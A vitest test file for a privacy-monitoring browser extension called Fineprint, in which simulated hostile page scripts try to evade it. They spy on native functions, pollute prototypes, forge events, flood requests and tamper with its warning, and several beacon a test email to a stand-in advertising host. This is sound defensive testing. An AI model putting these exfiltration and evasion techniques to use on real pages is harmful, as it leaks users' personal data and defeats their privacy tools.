import { expect, it } from 'vitest'
import { PARTIES } from '../../demo/hosts'
import { until, viewOf } from './browser-under-test'
import { flowsOf, HOME, inEachBrowser, policyIsRead } from './world'

/** Attacks by a page, each in a frame whose first script is the attacker's (docs/threat-model.md). */

const EMAIL = 'ottoline.fairweather@mail.example'
const URL = `https://${PARTIES.advertising}/hostile`

/** Runs `script` as the first script of a new document and gives back what it left in `window.result`. */
const first = (script: string): string => `new Promise(resolve => {
  const frame = document.createElement('iframe')
  frame.srcdoc = '<script>' + ${JSON.stringify(script)} + '</' + 'script>'
  frame.onload = () => setTimeout(() => resolve(frame.contentWindow.result), 300)
  document.body.append(frame)
})`

inEachBrowser({}, world => {
  it('functions look as they always did', async () => {
    const tab = await world().browser.open(`${HOME}/`)
    const odd = await tab.run<string[]>(
      first(`
      const wrapped = {
        fetch: [window, 'fetch', 1], open: [XMLHttpRequest.prototype, 'open', 2], xhr: [XMLHttpRequest.prototype, 'send', 0],
        beacon: [Navigator.prototype, 'sendBeacon', 1], socket: [WebSocket.prototype, 'send', 1],
        channel: [RTCDataChannel.prototype, 'send', 1], submit: [HTMLFormElement.prototype, 'submit', 0],
        toString: [Function.prototype, 'toString', 0] };
      const pattern = Function.prototype.toString.call(Object.keys);
      window.result = Object.values(wrapped).flatMap(([owner, name, length]) => {
        const { value, ...rest } = Object.getOwnPropertyDescriptor(owner, name);
        const says = [
          value.name === name || 'name ' + value.name, value.length === length || 'length ' + value.length,
          Function.prototype.toString.call(value) === pattern.replace('keys', name) || Function.prototype.toString.call(value),
          !('prototype' in value) || 'prototype', String(Object.getOwnPropertyNames(value).sort()) === 'length,name' || 'own names',
          rest.writable && rest.configurable || 'descriptor' ];
        return says.filter(said => said !== true).map(said => name + ': ' + said);
      });
      for (const attack of [() => navigator.sendBeacon.call({}), () => WebSocket.prototype.send.call(1), () => new fetch('/')])
        try { attack(); window.result.push('no error from ' + attack) } catch (error) { if (!(error instanceof TypeError)) window.result.push(String(error)) }
      `),
    )
    expect(odd).toEqual([])
  })

  it('nothing of ours goes through what the page has put in place of the browser’s own', async () => {
    const tab = await world().browser.open(`${HOME}/sign-up`)
    await policyIsRead(world())
    await tab.type('[name=email]', EMAIL)
    const start = Date.now()
    const heard = await tab.run<string[]>(
      first(`
      const heard = window.result = [];
      const call = Reflect.apply; const spy = (owner, name) => { const native = owner[name]; owner[name] = function () { heard[heard.length] = String(name); return call(native, this, arguments) } };
      const listen = EventTarget.prototype.addEventListener;
      for (const name of ['dispatchEvent', 'addEventListener']) spy(EventTarget.prototype, name);
      for (const name of ['apply', 'getOwnPropertyDescriptor', 'defineProperty']) spy(Reflect, name);
      for (const name of ['get', 'set', 'has']) spy(WeakMap.prototype, name);
      for (const name of ['slice', 'text', 'arrayBuffer']) spy(Blob.prototype, name);
      for (const name of ['get', 'set']) spy(Map.prototype, name);
      for (const name of ['indexOf', 'slice', 'toLowerCase']) spy(String.prototype, name);
      for (const name of ['exec', 'test']) spy(RegExp.prototype, name);
      for (const name of ['ownKeys', 'construct']) spy(Reflect, name);
      for (const name of ['create', 'fromEntries']) spy(Object, name);
      spy(Performance.prototype, 'now'); spy(Date, 'now'); spy(Array, 'isArray'); spy(Math, 'min');
      for (const name of ['getReader', 'pipeThrough']) spy(ReadableStream.prototype, name);
      for (const [owner, name] of [[Event.prototype, 'target'], [Document.prototype, 'documentElement'], [IDBObjectStore.prototype, 'name']]) {
        const { get } = Object.getOwnPropertyDescriptor(owner, name);
        Object.defineProperty(owner, name, { get() { heard[heard.length] = 'get ' + name; return call(get, this, []) } });
      }
      for (const name of ['stringify', 'parse']) spy(JSON, name);
      spy(FormData.prototype, 'forEach'); spy(FormData.prototype, 'get'); spy(Promise.prototype, 'then');
      spy(Array.prototype, Symbol.iterator);
      for (const name of ['CustomEvent', 'FocusEvent', 'Blob']) {
        const Native = window[name];
        window[name] = class extends Native { constructor(...args) { super(...args); heard.push(name) } };
      }
      const POLLUTED = ['detail', 'bubbles', 'composed', 'relatedTarget', 'apply', 'has', 'writable', 'value', 'prepareStackTrace'];
      for (const name of POLLUTED)
        Object.defineProperty(Object.prototype, name, { __proto__: null, configurable: true, get() { heard[heard.length] = 'Object.prototype.' + name; return undefined }, set(value) { Object.defineProperty(this, name, { __proto__: null, value, configurable: true, writable: true, enumerable: true }) } });
      const body = new Blob(['{"em":"${EMAIL}"}']);
      heard.length = 0;
      navigator.sendBeacon('${URL}?b', body);
      const input = document.createElement('input'); input.value = 'a'; input.value; call(listen, input, ['input', () => undefined]); input.oninput = null;
      for (let n = 0; n < 100; n++) input.value;
      document.cookie = 'spied=1'; history.replaceState({ a: [1] }, ''); window.name = 'spied';
      new MutationObserver(() => undefined).observe(document, { subtree: true, characterData: true });
      new FormData(document.createElement('form'));
      fetch('data:,', { get method() { return 'GET' }, get body() { return undefined } });
      history.replaceState({ get a() { return 1 } }, '');
      const ours = heard.slice(0, heard.length);
      for (const name of POLLUTED) delete Object.prototype[name];
      window.result = ours;
      `),
    )
    expect(heard).toEqual([])
    const flows = await until(
      async () => (await flowsOf(world(), HOME, start)).filter(({ url }) => url.startsWith(URL)),
      found => found.length > 0,
    )
    expect(flows[0]?.items[0]).toMatchObject({ dataType: 'email' })
  })

  it('the line cannot be joined or forged by name', async () => {
    const { browser } = world()
    const tab = await browser.open(`${HOME}/sign-up`)
    await policyIsRead(world())
    await tab.type('[name=email]', EMAIL)
    const start = Date.now()
    const taken = await tab.run<string[]>(
      first(`
      const taken = window.result = [];
      const node = document.createElement('i');
      const payload = () => new CustomEvent('payload', { detail: ['beacon', 'POST', '${URL}?forged', '${EMAIL}'] });
      for (const target of [document, window, document.documentElement]) {
        const hello = new FocusEvent('fineprint.hello', { relatedTarget: node, cancelable: true, bubbles: true });
        if (!target.dispatchEvent(hello)) taken.push('hello');
        target.dispatchEvent(payload());
      }
      node.dispatchEvent(payload());
      for (const target of [document, window, document.documentElement, node])
        for (const type of ['fineprint.hello', 'payload', 'submit']) target.addEventListener(type, () => taken.push(type), true);
      navigator.sendBeacon('${URL}?real', new Blob(['{"em":"${EMAIL}"}']));
      document.createElement('form').submit();
      `),
    )
    expect(taken).toEqual([])
    await new Promise(resolve => setTimeout(resolve, 2500))
    const forged = (await flowsOf(world(), HOME, start)).filter(({ url }) => url.includes('forged'))
    expect(forged).toEqual([])
  })

  it('a page finds no trace of Fineprint, and no file of it', async () => {
    const { browser } = world()
    const tab = await browser.open(`${HOME}/sign-up`)
    await policyIsRead(world())
    await tab.run(`(() => {
      window.changed = []
      new MutationObserver(records => { for (const { target, type, attributeName } of records) changed.push([type, target.nodeName, attributeName].join(' ')) })
        .observe(document, { subtree: true, childList: true, attributes: true, characterData: true })
    })()`)
    await tab.type('[name=email]', EMAIL)
    await until(
      async () => (await viewOf(browser, HOME)).requests.seen,
      seen => seen > 0,
    )
    const traces = await tab.run<string[]>(`[
      ...Object.getOwnPropertyNames(window).filter(name => /fineprint/i.test(name)),
      ...[...document.querySelectorAll('*')].map(found => found.localName).filter(name => name.includes('-')),
      ...performance.getEntries().map(({ name }) => name).filter(name => /-extension:/.test(name)),
      ...[...document.styleSheets, ...document.adoptedStyleSheets].map(({ href }) => href ?? '').filter(href => /-extension:/.test(href)),
      // Firefox fills forms in, and sets the style of a field it thinks about.
      ...changed.filter(change => change !== 'attributes INPUT style'),
      ...(customElements.get('fineprint-warning') ? ['an element'] : []),
      ...(globalThis.chrome?.runtime?.sendMessage || globalThis.browser?.runtime ? ['a way to send messages'] : []),
    ]`)
    expect(traces).toEqual([])
    const heard =
      'window.result = []; addEventListener("message", ({ data }) => result.push(JSON.stringify(data)), true)'
    expect(await tab.run(first(heard))).toEqual([])
    const own = await browser.own<string>("chrome.runtime.getURL('/')")
    const manifest = await browser.own<Record<string, unknown>>('chrome.runtime.getManifest()')
    expect(manifest.web_accessible_resources ?? manifest.externally_connectable ?? null).toBe(null)
    for (const file of ['warning.js', 'popup.html', 'manifest.json', 'content-scripts/probe.js', 'no-such-file']) {
      expect(await tab.run(`fetch('${own}${file}').then(() => 'loaded', () => 'refused')`), file).toBe('refused')
    }
  })

  it('a flood neither silences what comes after it nor stops the page', async () => {
    const { browser } = world()
    const tab = await browser.open(`${HOME}/sign-up`)
    await policyIsRead(world())
    await tab.type('[name=email]', EMAIL)
    const start = Date.now()
    const took = await tab.run<number>(`(() => {
      const began = performance.now()
      for (let count = 0; count < 1500; count++) navigator.sendBeacon('${URL}?flood=' + count, new Blob(['x'.repeat(100)]))
      for (let count = 0; count < 100; count++) document.createElement('form').submit()
      return performance.now() - began
    })()`)
    expect(took).toBeLessThan(20_000)
    await tab.run(`void fetch('${URL}?after', { method: 'POST', mode: 'no-cors', body: '${EMAIL}' })`)
    const flows = await until(
      async () => (await flowsOf(world(), HOME, start)).filter(({ url }) => url.includes('after')),
      found => found.length > 0,
      60,
    )
    expect(flows[0]?.items[0]).toMatchObject({ dataType: 'email' })
  })

  it('a warning cannot be read, clicked or taken away by script', async () => {
    const { browser, demo } = world()
    await browser.ask('person.save', { id: 'child', person: { label: 'Mia', minor: true, values: {} } })
    await browser.ask('person.choose', { id: 'child' })
    const tab = await browser.open(`${HOME}/sign-up`)
    await policyIsRead(world())
    demo.received.length = 0
    // Firefox names the very node of an event to everybody on its way.
    await tab.run(`(() => {
      window.inner = []
      const look = event => {
        for (const name of ['target', 'originalTarget', 'explicitOriginalTarget', 'rangeParent', 'relatedTarget'])
          if (event[name] instanceof Node && event[name].getRootNode() !== document) inner.push(event.type + ' ' + name)
      }
      for (const type of ['focus', 'focusin', 'blur', 'keydown', 'keyup', 'mousemove', 'mouseover', 'pointermove', 'mousedown', 'click'])
        addEventListener(type, look, true)
    })()`)
    await tab.type('[name=email]', 'mia.fairweather@mail.example')
    await tab.press('Enter')
    await until(() => tab.run<boolean>("document.querySelector('fineprint-warning') !== null"), Boolean)
    const read = await tab.run<string[]>(`(() => {
      const host = document.querySelector('fineprint-warning')
      for (const type of ['click', 'keydown', 'submit']) host.dispatchEvent(new Event(type, { bubbles: true, composed: true }))
      host.click()
      document.querySelector('#sign-up').requestSubmit()
      document.execCommand('selectAll')
      const { height } = host.getBoundingClientRect()
      return [String(host.shadowRoot), host.textContent, getSelection().toString().includes('Fineprint'), find('Fineprint'), height]
    })()`)
    expect(read).toEqual(['null', '', false, false, 0])
    await tab.press('Tab')
    expect(await tab.run('inner')).toEqual([])
    await tab.run("document.querySelector('fineprint-warning').remove()")
    await new Promise(resolve => setTimeout(resolve, 1500))
    expect(demo.received.filter(({ path }) => path.startsWith('/welcome'))).toEqual([])
    await browser.ask('person.choose', { id: null })
  })
})
